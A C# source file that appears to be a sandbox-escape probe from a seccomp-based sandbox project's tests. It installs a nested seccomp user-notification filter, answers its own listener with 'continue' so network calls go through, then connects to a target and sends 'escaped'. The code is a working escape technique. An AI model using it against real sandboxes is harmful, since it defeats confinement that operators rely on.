using System.Net;
using System.Net.Sockets;
using System.Runtime.InteropServices;
using CapitalOs.Seal.Filter;
using CapitalOs.Seal.Native;

namespace CapitalOs.Seal.Probe;

/// <summary>
/// A filter of the attacker's own, whose listener it answers itself: let it happen. The newest filter that wants to be
/// asked is the one that is asked, so this one would answer in the place of a supervisor that is gone.
/// </summary>
internal static unsafe class NestedListener
{
    private const int SetNoNewPrivileges = 38;
    private const int SetModeFilter = 1;
    private const int NewListener = 8;
    private const uint LetItHappen = 1;
    private const nuint Receive = 0xC0502100;
    private const nuint Send = 0xC0182101;

    /// <summary>Installs it and sends the bytes; the sink tells whether they went.</summary>
    internal static bool Attempt(IPEndPoint target)
    {
        _ = Libc.Prctl(SetNoNewPrivileges, 1);
        BpfAssembler assembler = new();
        BpfLabel asked = new();
        assembler.Load(FilterProgram.NumberOffset);
        foreach (string call in (string[])["socket", "connect", "sendto"])
        {
            BpfLabel next = new();
            assembler.IfEqual((uint)SyscallTable.Number(call), asked, next);
            assembler.Mark(next);
        }

        assembler.Return(FilterProgram.ReturnAllow);
        assembler.Mark(asked);
        assembler.Return(FilterProgram.ReturnNotify);
        BpfInstruction[] program = assembler.Assemble();
        nint listener;
        fixed (BpfInstruction* first = program)
        {
            FilterHeader header = new() { Length = (ushort)program.Length, Instructions = first };
            listener = Libc.Syscall(SyscallTable.Number("seccomp"), SetModeFilter, NewListener, (nint)(&header));
        }

        Console.WriteLine($"listener {(listener < 0 ? Marshal.GetLastPInvokeError() : 0)}");
        if (listener >= 0)
        {
            // A thread that was there before would not be bound by the new filter; a new one answers nobody's calls.
            Thread answering = new(() => Answer((int)listener)) { IsBackground = true };
            answering.Start();
        }

        using Socket socket = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        socket.Connect(target);
        return socket.Send("escaped"u8) > 0;
    }

    private static void Answer(int listener)
    {
        ulong* answer = stackalloc ulong[3];
        while (true)
        {
            Notification notification = default;
            if (Libc.Ioctl(listener, Receive, &notification) != 0)
            {
                // It may not ask its own listener; then whoever waits for an answer waits for ever.
                Libc.ExitNow(1);
            }

            (answer[0], answer[1], answer[2]) = (notification.Id, 0, (ulong)LetItHappen << 32);
            _ = Libc.Ioctl(listener, Send, answer);
        }
    }
}
